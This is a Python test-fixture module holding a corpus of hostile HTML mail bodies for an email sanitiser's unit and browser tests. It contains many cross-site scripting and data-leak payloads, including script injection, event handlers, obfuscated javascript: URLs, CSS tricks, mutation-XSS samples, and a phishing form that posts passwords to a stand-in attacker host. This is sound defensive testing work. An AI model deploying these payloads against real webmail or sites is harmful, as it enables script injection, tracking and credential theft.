"""A corpus of hostile HTML mail bodies, shared by the sanitiser's unit tests and the
Chromium tests (tests/browser/test_hostile_html.py).

"{evil}" stands for a server the attacker controls; the browser tests point it at a local
HTTP server and fail if anything reaches it. Payloads that run try to change the reading
page's title to "pwned", navigate the top page, or call alert().
"""
PWN = "parent.document.title='pwned';top.document.title='pwned';top.location='{evil}/navigated'"

CORPUS = {
    "script": f"<p>Hi</p><script>{PWN}</script><SCRIPT SRC={{evil}}/x.js></SCRIPT>",
    "script_split": f"<scr<script>x</script>ipt>{PWN}</script>",
    "img_onerror": f"<img src=x onerror=\"{PWN}\"><img src=\"{{evil}}/track.png\" onload=\"alert(1)\">",
    "svg_onload": f"<svg onload=\"{PWN}\"><script>alert(1)</script>"
                  "<a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "svg_image": "<svg><image href=\"{evil}/svg.png\"/><use href=\"{evil}/sprite.svg#a\"/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext>"
            "<maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">click</maction></math>",
    "css_expression": "<div style=\"width: expression(alert(1)); color: red\">a</div>"
                      "<div style=\"background: url(javascript:alert(1))\">b</div>"
                      "<div style=\"behavior: url({evil}/x.htc); -moz-binding: url({evil}/x.xml#xss)\">c</div>"
                      "<div style=\"background-image: url('{evil}/bg.png')\">d</div>"
                      "<div style=\"color: red; background: u&#114;l({evil}/e.png)\">e</div>"
                      "<div style=\"width: e&#x78;pression(alert(1))\">f</div>"
                      "<div style=\"background:\\75 rl({evil}/escaped.png)\">g</div>",
    "javascript_links": "<a href=\"javascript:alert(1)\">a</a>"
                        "<a href=\"JaVaScRiPt:alert(1)\">b</a>"
                        "<a href=\" &#14;  javascript:alert(1)\">c</a>"
                        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">d</a>"
                        "<a href=\"jav&#x09;ascript:alert(1)\">e</a>"
                        "<a href=\"java\nscript:alert(1)\">f</a>"
                        "<a href=\"vbscript:msgbox(1)\">g</a>"
                        "<a href=\"VBScript:msgbox(1)\">h</a>"
                        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">i</a>"
                        "<a href=\"DATA:text/html,<script>alert(1)</script>\">j</a>"
                        "<a href=\"/mail/settings/\">k</a>",
    "meta_refresh": "<meta http-equiv=\"refresh\" content=\"0;url={evil}/refresh\"><p>wait</p>"
                    "<META HTTP-EQUIV=Refresh CONTENT=\"0; URL=javascript:alert(1)\">",
    "base_href": "<base href=\"{evil}/\"><a href=\"relative\">r</a><img src=\"relative.png\">",
    "form_phishing": "<form action=\"{evil}/steal\" method=\"post\"><p>Your mailbox is full. Confirm:</p>"
                     "<input name=\"user\" value=\"alice\"><input type=\"password\" name=\"password\">"
                     "<button type=\"submit\" formaction=\"{evil}/steal2\">Log in</button>"
                     "<input type=\"image\" src=\"{evil}/button.png\"></form>",
    "iframe_srcdoc": f"<iframe srcdoc=\"<script>{PWN}</script>\"></iframe>"
                     "<iframe src=\"{evil}/frame\"></iframe><frameset><frame src=\"{evil}/f\"></frameset>",
    "object_embed": "<object data=\"{evil}/x.swf\" type=\"application/x-shockwave-flash\">"
                    "<param name=a value=b></object>"
                    "<embed src=\"{evil}/x.swf\"><applet code=\"X\" codebase=\"{evil}/\"></applet>",
    "link_stylesheet": "<link rel=\"stylesheet\" href=\"{evil}/x.css\">"
                       "<link rel=\"prefetch\" href=\"{evil}/p\"><p>styled</p>",
    "style_import": "<style>@import url({evil}/import.css); body {{ background: url({evil}/body.png) }}</style>"
                    "<style>p {{ color: red }}</style><p>imported</p>",
    "unclosed": "<div><table><tr><td><a href=\"https://ok.test/\"><b>bold <i>italic <img src=x",
    "huge_nesting": "<div>" * 5000 + "deep" + "</div>" * 5000,
    "event_handlers": "<body onload=\"alert(1)\"><p onmouseover=\"alert(1)\" onclick=\"alert(1)\">hover</p>"
                      "<details open ontoggle=\"alert(1)\"><summary>s</summary></details>"
                      "<video><source onerror=\"alert(1)\"></video><audio src=x onerror=alert(1)>",
    "background_attr": "<table background=\"{evil}/table.png\">"
                       "<tr><td background=\"{evil}/td.png\">bg</td></tr></table>",
    "srcset": "<img srcset=\"{evil}/a.png 1x, {evil}/b.png 2x\" src=\"data:image/png;base64,iVBORw0KGgo=\">"
              "<picture><source srcset=\"{evil}/c.png\"><img src=\"{evil}/d.png\"></picture>",
    "data_svg_image": "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"
                      "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "comment_tricks": "<!--<img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->"
                      "<p>after<!-- --!><img src=x onerror=alert(1)></p>",
    "noscript_mxss": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "template": "<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>",
    "target_override": "<a href=\"https://ok.test/\" target=\"_top\" rel=\"opener\">top</a>"
                       "<a href=\"https://ok.test/\" target=\"_parent\" ping=\"{evil}/ping\">parent</a>",
    "attribute_breakout": "<img alt='\"><script>alert(1)</script>' src=\"cid:nothing\">"
                          "<a title=\"x\" href='https://ok.test/\" onmouseover=\"alert(1)'>q</a>",
}


def corpus(evil="https://evil.test"):
    """Return {name: html} with {evil} filled in."""
    return {name: html.replace("{evil}", evil).replace("{{", "{").replace("}}", "}")
            for name, html in CORPUS.items()}
